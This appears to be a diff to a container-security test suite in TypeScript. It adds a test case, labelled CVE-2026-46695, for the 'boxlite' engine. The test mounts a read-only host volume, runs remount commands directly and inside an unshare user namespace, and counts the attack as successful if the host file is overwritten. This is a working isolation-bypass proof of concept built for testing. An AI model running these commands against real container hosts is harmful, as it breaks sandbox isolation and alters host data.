@@ -5,8 +5,8 @@
  */
 
 import { type Attack, sh } from "./attack.ts";
-import { exists, link, runHost } from "./scene.ts";
-import { runOrder } from "./engines.ts";
+import { exists, link, read, runHost } from "./scene.ts";
+import { quote, runOrder } from "./engines.ts";
 
 /** The kernel's PROC_CGROUP_INIT_INO. */
 const FIRST = "cgroup:[4026531835]";
@@ -151,5 +151,20 @@ export const PRIVILEGES: readonly Attack[] = [
       return { code: 0, output: all.map(({ output }) => output).join("") };
     },
     succeeded: (_, { output }) => output.includes("connected to"),
+  },
+  {
+    id: "CVE-2026-46695",
+    engine: "boxlite",
+    title: "a read-only volume is mounted read-write again, as root and as root of a user namespace",
+    async prepare({ room }) {
+      await Deno.mkdir(`${room}/own`);
+      await Deno.writeTextFile(`${room}/own/file`, "mine");
+    },
+    order: ({ room }) => {
+      const write = "mount -o remount,rw,bind /data; mount -o remount,rw /data; echo changed >/data/file";
+      const nested = `unshare -Ur -m sh -c ${quote(write)}`;
+      return { args: sh(`${write}; ${nested}`), volumes: [{ source: `${room}/own`, target: "/data", readOnly: true }] };
+    },
+    succeeded: ({ room }) => read(`${room}/own/file`) !== "mine",
   },
 ];
